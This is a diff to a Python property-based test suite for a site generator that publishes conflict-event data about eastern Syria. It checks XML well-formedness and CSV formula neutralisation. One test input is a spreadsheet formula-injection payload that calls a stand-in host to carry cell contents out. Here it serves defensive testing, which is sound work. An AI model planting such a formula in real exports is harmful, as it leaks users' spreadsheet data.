@@ -32,7 +32,7 @@ REFUSED = st.sampled_from(["\x00", "\x01", "\x1b", "\x7f", "\x85", "\r", "\u202e
                            "\ud800", "\U0010ffff", "&#x202e;", "&#0;", "&#xFFFE;"])
 TEXT = st.lists(st.one_of(TRICKY, st.text(st.characters(blacklist_categories=("Cs", "Cc", "Cn")), min_size=1, max_size=3),
                           st.sampled_from(["قسد", "رتل", "الشدادي", "200"])), min_size=1, max_size=8).map("".join)
-FIELDS = ("title", "summary", "actor", "unit", "name", "notes", "source_title")
+FIELDS = ("title", "summary", "actor", "alias", "name", "notes", "source_title")
 
 
 def _quoted(text: str) -> str:
@@ -46,40 +46,40 @@ def _quoted(text: str) -> str:
     return '"' + "".join(map(escape, text)) + '"'
 
 
-def _event(title: str, summary: str, actor: str, unit: str) -> str:
+def _event(title: str, summary: str, actor: str) -> str:
     q = _quoted
     return (f"id: 2025-05-02-convoy\ndate: {{start: 2025-05-02, precision: day}}\ntype: withdrawal\n"
             f"title: {q(title)}\nsummary: {q(summary)}\nactors: [{q(actor)}]\nbases: [{{id: qasrak, effect: reinforced}}]\n"
-            f"quantities: [{{count: 200, unit: {q(unit)}}}]\n"
+            "quantities: [{count: 200, unit: truck}]\n"
             f"citations: [{{source: {SOURCE_ID}, quote: \"توجه نحو 200 شاحنة\"}}]\ncredibility: 2\n")
 
 
-def _base(name: str, notes: str) -> str:
-    return (f"id: qasrak\nname: {{ar: {_quoted(name)}}}\nkind: base\ngovernorate: {{ar: الحسكة}}\n"
+def _base(name: str, alias: str, notes: str) -> str:
+    return (f"id: qasrak\nname: {{ar: {_quoted(name)}}}\naliases: [{_quoted(alias)}]\nkind: base\ngovernorate: {{ar: الحسكة}}\n"
             f"location: {{lat: 36.62, lon: 40.73, precision: approximate}}\nnotes: {_quoted(notes)}\n")
 
 
 @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
-@given(title=TEXT, summary=TEXT, actor=TEXT, unit=TEXT, name=TEXT, notes=TEXT, source_title=TEXT,
+@given(title=TEXT, summary=TEXT, actor=TEXT, alias=TEXT, name=TEXT, notes=TEXT, source_title=TEXT,
        poison=st.one_of(st.none(), st.tuples(st.sampled_from(FIELDS), REFUSED)))
-@example(title="جديد \u202eأسرار\x01", summary="نص &#x202e;", actor="\u2066قسد\u2069", unit="\x00", name="\ufffe",
+@example(title="جديد \u202eأسرار\x01", summary="نص &#x202e;", actor="\u2066قسد\u2069", alias="\x00", name="\ufffe",
          notes="نص", source_title="عنوان", poison=None)
-@example(title='=HYPERLINK("https://example.invalid/?x="&A1,"كونيكو")', summary="-1 نص", actor="+قسد", unit="@x",
+@example(title='=HYPERLINK("https://example.invalid/?x="&A1,"كونيكو")', summary="-1 نص", actor="+قسد", alias="@x",
          name="قسرك ]]> &", notes="<&>", source_title="\tعنوان", poison=None)
-def test_every_xml_the_site_publishes_is_well_formed_for_any_text_check_accepts(title, summary, actor, unit, name,
+def test_every_xml_the_site_publishes_is_well_formed_for_any_text_check_accepts(title, summary, actor, alias, name,
                                                                                notes, source_title, poison):
     # A character reference is a character only in Markdown (summary, notes); elsewhere it is text.
     refused = poison is not None and (not poison[1].startswith("&") or poison[0] in ("summary", "notes"))
     if poison:
         field, char = poison
-        fields = dict(title=title, summary=summary, actor=actor, unit=unit, name=name, notes=notes,
+        fields = dict(title=title, summary=summary, actor=actor, alias=alias, name=name, notes=notes,
                       source_title=source_title)
         fields[field] += char
-        title, summary, actor, unit, name, notes, source_title = (fields[f] for f in FIELDS)
+        title, summary, actor, alias, name, notes, source_title = (fields[f] for f in FIELDS)
     with tempfile.TemporaryDirectory() as tmp:
         source = textwrap.dedent(VALID[f"sources/{SOURCE_ID}.yaml"]).replace(
             "title: واشنطن تعيد رسم خريطتها العسكرية بشرق سوريا", f"title: {_quoted(source_title)}")
-        content = write_corpus(Path(tmp), {EVENT: _event(title, summary, actor, unit), "bases/qasrak.yaml": _base(name, notes),
+        content = write_corpus(Path(tmp), {EVENT: _event(title, summary, actor), "bases/qasrak.yaml": _base(name, alias, notes),
                                            f"sources/{SOURCE_ID}.yaml": source})
         try:
             checked = check(content)
@@ -97,8 +97,7 @@ def test_every_xml_the_site_publishes_is_well_formed_for_any_text_check_accepts(
         ET.fromstring(files[path])  # raises on anything malformed
     event = checked.corpus.events["2025-05-02-convoy"]
     (record,) = [r for r in json.loads(files["events.json"]) if r["id"] == event.id]
-    assert (record["title"], record["summary"], record["actors"], record["quantities"][0]["unit"]) == \
-        (event.title, event.summary, list(event.actors), event.quantities[0].unit)
+    assert (record["title"], record["summary"], record["actors"]) == (event.title, event.summary, list(event.actors))
     for row in csv.reader(io.StringIO(files["events.csv"].decode("utf-8-sig"), newline="")):
         assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
 
@@ -114,7 +113,7 @@ def test_spreadsheet_cells_that_would_be_formulas_start_with_an_apostrophe():
 
 def test_the_csv_neutralises_a_formula_title_and_the_json_keeps_it(run, make_corpus, tmp_path):
     title = '=HYPERLINK("https://example.invalid/?x="&A1,"كونيكو")'
-    make_corpus({EVENT: _event(title, "ملخص.", "+قسد", "شاحنة")})
+    make_corpus({EVENT: _event(title, "ملخص.", "+قسد")})
     assert run("build")[0] == 0
     rows = list(csv.DictReader(io.StringIO((tmp_path / "site/events.csv").read_text(encoding="utf-8-sig"), newline="")))
     assert rows[0]["title"] == "'" + title and rows[0]["actors"] == "'+قسد"
